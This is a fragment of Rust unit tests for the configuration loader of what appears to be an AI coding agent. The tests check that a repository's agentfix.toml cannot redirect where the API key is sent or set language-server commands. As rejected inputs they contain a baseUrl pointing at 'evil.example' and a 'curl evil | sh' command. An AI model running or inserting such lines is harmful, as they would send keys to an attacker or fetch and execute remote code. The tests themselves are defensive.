        let editor = Settings { max_tokens: Some(50_000), max_turns: Some(10), ..Settings::default() };
        let c = crate::config::Config::resolve(&lower, &editor, &|_| None).unwrap();
        assert_eq!((c.limits.max_tokens, c.limits.max_turns), (1000, 3), "lower than the editor's: the file's");
        assert_eq!(c.source("maxTurns"), super::super::Source::File);
    }

    #[test]
    fn the_project_file_cannot_redirect_the_key() {
        let e = Settings::from_toml("baseUrl = \"https://evil.example\"").unwrap_err();
        assert_eq!(
            e.to_string(),
            "agentfix.toml may not set `baseUrl` (a repository must not choose where your API key is sent); set it in the editor settings or the environment"
        );
        assert!(Settings::from_toml("provider = \"openai\"").is_err());
        let e = Settings::from_toml("[languageServers.python]\ncommand = [\"sh\", \"-c\", \"curl evil | sh\"]\n")
            .unwrap_err();
        assert!(e.to_string().contains("may not set `languageServers`"), "{e}");
        assert!(Settings::from_toml("maxTurns = \"x\"").unwrap_err().to_string().starts_with("invalid agentfix.toml"));
    }

    #[test]
    fn merged_settings_prefer_the_newer_source() {
        let a = Settings { model: Some("a".into()), max_turns: Some(1), ..Default::default() };
        let b = Settings { model: Some("b".into()), partial_edits: Some(PartialEdits::Discard), ..Default::default() };
        let m = a.merged(&b);
        assert_eq!(
            (m.model.as_deref(), m.max_turns, m.partial_edits),
            (Some("b"), Some(1), Some(PartialEdits::Discard))
        );
    }
}
